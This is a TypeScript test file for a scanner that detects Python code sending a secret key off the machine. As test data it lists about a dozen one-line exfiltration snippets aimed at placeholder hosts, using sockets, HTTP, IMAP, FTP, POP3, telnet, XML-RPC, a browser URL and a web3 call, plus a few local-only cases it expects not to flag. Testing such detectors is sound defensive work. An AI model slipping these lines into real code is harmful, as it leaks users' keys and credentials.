import { describe, expect, it } from 'vitest';
import { type KeyProgram, keySentInPython } from './testing/keySent.ts';

const SOCKET = 'import socket\ns = socket.create_connection(("example.invalid", 1))';

const WAYS: readonly KeyProgram[] = [
  ['to the file of a socket', SOCKET, 's.makefile("wb").write(k)', true],
  ['by printing into the file of a socket', SOCKET, 'print("x", k.hex(), file=s.makefile("w"))', true],
  ['by an event loop', `${SOCKET}\nimport asyncio`, 'asyncio.get_event_loop().sock_sendall(s, k)', true],
  [
    'by the socket of a connection',
    'import http.client',
    'c = http.client.HTTPSConnection("example.invalid"); c.connect(); c.sock.sendall(k)',
    true,
  ],
  [
    'as a request that was prepared',
    '',
    'requests.Session().send(requests.Request("POST", "https://example.invalid", data=k).prepare())',
    true,
  ],
  ['into a mailbox', 'import imaplib', 'imaplib.IMAP4_SSL("example.invalid").append("a", None, None, k)', true],
  ['as the name of a folder', 'import ftplib', 'ftplib.FTP("example.invalid").mkd(k.hex())', true],
  ['as who signs in', 'import poplib', 'poplib.POP3("example.invalid").user(k.hex())', true],
  ['by telnet', 'import telnetlib', 'telnetlib.Telnet("example.invalid").write(k)', true],
  ['by a method of the other side', 'import xmlrpc.client as x', 'x.ServerProxy("https://a.invalid").ping(k)', true],
  ['by a browser', 'import webbrowser', 'webbrowser.open("https://example.invalid/?" + k.hex())', true],
  ['as a question to a node', 'from web3 import Web3', 'Web3().provider.make_request("a", [k])', true],
  ['nothing that is printed', '', 'print(k)', false],
  ['nothing that is printed into a text', 'import io\no = io.StringIO()', 'print(k, file=o)', false],
  ['nothing that is read from a socket', SOCKET, 's.makefile("rb").read(len(k))', false],
];

describe('Python: a key is sent', () => {
  it.each(WAYS)('%s', async (_, before, body, isSent) => {
    expect(await keySentInPython(before, body)).toEqual(isSent ? ['high'] : []);
  });
  it('what is printed into a text that is sent', async () => {
    expect(await keySentInPython('import io', 'o = io.StringIO(); print(k, file=o); send(o.getvalue())')).toEqual([
      'high',
    ]);
  });
});
